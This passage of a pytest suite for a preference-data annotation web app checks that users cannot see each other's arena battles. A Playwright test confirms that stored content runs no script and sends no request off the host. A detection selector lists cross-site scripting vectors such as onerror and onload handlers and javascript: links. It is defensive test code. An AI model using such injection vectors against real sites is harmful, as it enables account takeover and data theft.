    arena.close()
    monkeypatch.setattr(asyncio, "run_coroutine_threadsafe", lambda *given: pytest.fail("asked a loop that has ended"))
    arena.close()


def test_battles_are_their_owners(hostile: Hostile) -> None:
    arena, mine, theirs = hostile.service.arena, hostile.people["annotator"], hostile.other
    battle = arena.start(mine, "whose is this?")
    for _ in range(200):
        if arena.seen(mine, battle).state == "ready":
            break
        threading.Event().wait(0.02)
    assert arena.seen(mine, battle).models is None and arena.current(theirs) is None
    for forbidden in (lambda: arena.seen(theirs, battle), lambda: arena.vote(theirs, battle, "a")):
        with pytest.raises(PrefdataError):
            forbidden()
    assert arena.seen(mine, battle).state == "ready"


class Looker:
    """Somebody at a browser, who notes what ran, what was asked for elsewhere, and what came into the page."""

    def __init__(self, browser: Any, hostile: Hostile, role: str) -> None:
        self.hostile, self.away = hostile, []
        context = browser.new_context(viewport={"width": 1300, "height": 900})
        form = {"login": hostile.people[role].login, "password": PASSWORD}
        context.request.post(f"{hostile.address}/login", form=form, headers=OURS)
        self.page = context.new_page()
        self.page.set_default_timeout(20_000)
        self.page.on("request", lambda sent: self.away.append(sent.url) if self._leaves(sent.url) else None)
        self.page.on("dialog", lambda dialog: (self.away.append("a dialog"), dialog.dismiss()))

    def _leaves(self, url: str) -> bool:
        return not url.startswith((self.hostile.address, "data:", "blob:", "about:"))

    def goto(self, path: str) -> None:
        self.page.goto(self.hostile.address + path)

    def tab(self, name: str) -> None:
        self.page.get_by_role("tab", name=name).first.click()

    def press(self, name: str) -> None:
        self.page.get_by_role("button", name=re.compile(f"^{name}")).first.click()

    def check(self, seen: str = "onerror") -> None:
        """The marks are there to be read, and did nothing."""
        self.page.wait_for_function("word => document.body.innerText.includes(word)", arg=seen)
        self.page.wait_for_timeout(300)
        for frame in self.page.frames:
            assert frame.evaluate("window.ran") is None, frame.url
            marked = "img[onerror], svg[onload], [onmouseover], [onfocus], iframe[src*=evil], a[href^=javascript]"
            assert frame.evaluate("what => document.querySelectorAll(what).length", marked) == 0
        assert self.away == []


@pytest.mark.browser
@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs chromium (Debian: apt-get install chromium)")
def test_nothing_that_anybody_wrote_runs_or_leaves_the_machine(hostile: Hostile, tmp_path: Path) -> None:
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as play:
        browser = play.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        one = Looker(browser, hostile, "annotator")
        one.goto(f"/label/?project={hostile.at}")
        one.check()  # the warning
        one.page.keyboard.press("Enter")
        one.page.locator(".pd-card").first.wait_for()
        one.check()
        for key in ("g", "q"):  # guidelines, questions
            one.page.keyboard.press(key)
            one.check()
            one.page.keyboard.press("Escape")
        one.goto("/arena/")
        one.page.fill("#ar-prompt textarea", MARKS)
        one.page.click("#ar-ask")
        one.page.click("#ar-vote-a:not([disabled])")
        one.page.wait_for_selector(".ar-known")
        one.check()
        lead = Looker(browser, hostile, "admin")
        lead.goto("/review/")
        lead.page.wait_for_function("document.querySelector('input[aria-label=Project]')?.value")
        for tab in ("Disagreements", "Questions", "Reports", "Guidelines"):
            lead.tab(tab)
            lead.check("card@" if tab == "Guidelines" else "onerror")
        lead.goto("/explore/")
        lead.page.locator("[data-group]").first.click()
        lead.page.locator("#px-whole [data-group]").first.wait_for(state="attached")
        lead.check()
        lead.tab("Plots")
        lead.press("Draw")
        lead.page.locator("svg text, svg title").first.wait_for(state="attached")
        lead.tab("SQL")
        lead.page.locator(".px-code textarea").fill(f'SELECT prompt AS "{SHORT}", tags FROM flat')
        lead.press("Run")
        lead.check(" rows in ")
        lead.tab("Report")
        lead.press("Write the report")
        lead.page.locator("iframe.px-report").wait_for()
        lead.check("Open the last one")
        lead.goto("/admin/")
        lead.tab("People")
        lead.check()
        lead.tab("Set-up")
        file = tmp_path / f"{SHORT}.jsonl"
        file.write_text(json.dumps({"prompt": MARKS, "responses": [f"{MARKS} a", f"{MARKS} b"], "warning": MARKS}))
        lead.page.locator("#pa-file input[type=file]").set_input_files(str(file))
        lead.check("new are 1 prompt and 2 responses")
        browser.close()
